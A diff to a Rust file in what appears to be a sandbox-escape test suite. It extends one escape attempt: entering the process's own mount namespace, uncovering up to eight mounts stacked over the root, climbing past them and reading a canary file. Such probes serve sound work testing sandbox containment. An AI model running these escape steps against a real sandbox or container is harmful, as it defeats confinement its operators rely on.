@@ -30,6 +30,9 @@ pub const ATTEMPT: Attempt = Attempt {
     witness,
 };
 
+/// No more mounts than these lie over one another at the root.
+const MAX_COVERS: usize = 8;
+
 fn attack(me: &mut Attacker) -> Result<(), Failed> {
     let (_, root) = me.root()?;
     // Its own namespace by a descriptor of itself, which needs no procfs (Linux 5.8), and by the usual link.
@@ -41,13 +44,23 @@ fn attack(me: &mut Attacker) -> Result<(), Failed> {
             Err(Failed::Refused(_)) => continue,
             Err(other) => return Err(other),
         };
-        entered = me.setns(handle, libc::CLONE_NEWNS);
+        entered = me.setns(handle, libc::CLONE_NEWNS).map(|()| handle);
         if !matches!(entered, Err(Failed::Refused(_))) {
             break;
         }
     }
-    entered?;
-    me.take_canary_above(libc::AT_FDCWD, root)
+    let handle = entered?;
+    match me.take_canary_above(libc::AT_FDCWD, root) {
+        Err(Failed::Refused(_)) => {}
+        done => return done,
+    }
+    // A root that was only moved over the old one covers it, perhaps more than one.
+    let mut covers = 0;
+    while covers < MAX_COVERS && me.uncovers_root(handle)? {
+        covers += 1;
+    }
+    let top = me.climb(libc::AT_FDCWD)?;
+    me.take_canary(top, &[""])
 }
 
 fn witness(host: &Host) -> Seen {
